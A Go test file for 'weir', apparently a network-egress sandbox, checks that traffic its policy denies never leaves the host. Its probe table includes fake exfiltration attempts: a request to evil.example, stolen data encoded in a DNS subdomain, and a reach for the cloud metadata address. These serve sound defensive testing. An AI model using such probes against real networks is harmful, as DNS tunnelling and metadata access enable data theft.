//go:build linux

package tests

import (
	"bytes"
	"net"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// registryOfNPM is the host and port that npm downloads from. Its name is never printed.
func registryOfNPM(t *testing.T) (host, port string) {
	for _, program := range []string{"npx", "npm", "node"} {
		if _, err := exec.LookPath(program); err != nil {
			t.Skipf("%s is not installed", program)
		}
	}
	out, err := exec.Command("npm", "config", "get", "registry").Output()
	if err != nil {
		t.Skipf("npm config get registry: %v", err)
	}
	u, err := url.Parse(strings.TrimSpace(string(out)))
	if err != nil || u.Hostname() == "" || net.ParseIP(u.Hostname()) != nil || u.Hostname() == "localhost" {
		t.Skip("npm has no registry with a name")
	}
	if port = u.Port(); port == "" {
		port = map[string]string{"http": "80", "https": "443"}[u.Scheme]
	}
	return u.Hostname(), port
}

// TestRegistryDenied is the main job with the registry left out of the rules (tests/registry has it with the registry in).
// The playground's DNS does not know the registry, so with the right rule npx fails as well: but then a question has left.
func TestRegistryDenied(t *testing.T) {
	host, port := registryOfNPM(t)
	redact := func(s string) string { return strings.ReplaceAll(s, host, "REGISTRY") }
	tap := tapUplink(t)
	run := func(rule string) (output, events string) {
		dir := t.TempDir()
		cmd := exec.Command(filepath.Join(binDir(), "weir"), "run", "--name", "everything", "--events", "fd:3", "--mode", "enforce", "--allow", rule,
			"--", "npx", "-y", "@modelcontextprotocol/server-everything")
		cmd.Env = append(stateOf(t), "npm_config_fetch_retries=0")
		book, err := os.Create(filepath.Join(dir, "events"))
		if err != nil {
			t.Fatal(err)
		}
		defer book.Close()
		cmd.ExtraFiles = []*os.File{book}
		var out bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &out
		if err := cmd.Run(); err == nil {
			t.Errorf("npx ended well without a registry:\n%s", redact(out.String()))
		}
		text, err := os.ReadFile(book.Name())
		if err != nil {
			t.Fatal(err)
		}
		return out.String(), string(text)
	}

	output, events := run("shop.example")
	if left := tap.sent(t); len(left) > 0 {
		t.Errorf("%d packets left the host: %v", len(left), left)
	}
	if !regexp.MustCompile(`npm (error|ERR!) code E`).MatchString(output) {
		t.Errorf("npx did not say what was wrong:\n%s", redact(output))
	}
	if !strings.Contains(output, "weir: denied "+host) {
		t.Errorf("weir did not say what was denied:\n%s", redact(output))
	}
	if !hasEvent(t, events, "dns-query", "hostname="+host, "verdict=deny", "reason=dns-blocked") {
		t.Errorf("no denied query in:\n%s", redact(events))
	}
	if slices.ContainsFunc(world.Queries(), func(q string) bool { return strings.HasPrefix(q, host+" ") }) {
		t.Error("the question left the host")
	}

	_, events = run(net.JoinHostPort(host, port))
	if len(tap.sent(t)) == 0 {
		t.Error("with the registry allowed no packet left either: the count proves nothing")
	}
	if !slices.ContainsFunc(world.Queries(), func(q string) bool { return strings.HasPrefix(q, host+" ") }) {
		t.Error("with the registry allowed its name was not asked for")
	}
	if !hasEvent(t, events, "dns-query", "hostname="+host, "verdict=allow") {
		t.Errorf("no allowed query in:\n%s", redact(events))
	}
}

// TestDeniedSendsNothing: what the policy denies is not even asked for. Each attempt has a rule under which it does leave.
func TestDeniedSendsNothing(t *testing.T) {
	tap := tapUplink(t)
	run := func(t *testing.T, rule string, probe []string) []string {
		cmd := exec.Command(filepath.Join(binDir(), "weir"), append([]string{"run", "-q", "--allow", rule, "--allow", otherwise,
			"--share=" + filepath.Join(binDir(), "probe") + ":/run/probe:ro", "--", "/run/probe"}, probe...)...)
		cmd.Env = stateOf(t)
		out, err := cmd.CombinedOutput()
		if text := string(out); rule == otherwise && err == nil && !strings.Contains(text, "NXDOMAIN") {
			t.Errorf("it went well: %s", text)
		}
		return tap.sent(t)
	}
	for _, c := range []struct{ name, lifted, probe string }{
		{"a name", "evil.example", "get http://evil.example/"},
		{"a name asked for over TCP", "evil.example", "dns+tcp 10.77.0.1:53 evil.example A"},
		{"data in a name", "*.evil.example", "dns 10.77.0.1:53 c3RvbGVu.evil.example TXT"},
		{"an address", "203.0.113.66:80", "tcp 203.0.113.66:80 x"},
		{"a closed port", "198.51.100.20:9", "tcp 198.51.100.20:9 x"},
		{"a datagram", "198.51.100.20:7/udp", "udp 198.51.100.20:7 x"},
		{"an IPv6 address", "[2001:db8:1::20]:7", "tcp [2001:db8:1::20]:7 x"},
		{"a resolver of its own", "198.51.100.53:53", "dns 198.51.100.53:53 shop.example A"},
		{"DNS over TLS", "198.51.100.10:853", "tls 198.51.100.10:853 shop.example"},
		{"QUIC", "198.51.100.10:443", "get https3://198.51.100.10/"},
		{"a private address", "10.1.2.3:5432", "tcp 10.1.2.3:5432 x"},
		{"metadata", "169.254.169.254:80", "past 169.254.169.254:80 198.51.100.20:9"},
		{"a black hole", "203.0.113.10:80", "past 203.0.113.10:80 198.51.100.20:9"},
	} {
		t.Run(c.name, func(t *testing.T) {
			probe := strings.Split(c.probe, " ")
			if left := run(t, otherwise, probe); len(left) > 0 {
				t.Errorf("denied, and yet %d packets left: %v", len(left), left)
			}
			if left := run(t, c.lifted, probe); len(left) == 0 {
				t.Error("allowed, and yet no packet left: the count proves nothing")
			}
		})
	}
}

// otherwise is a rule that covers none of the attempts.
const otherwise = "shop.example"
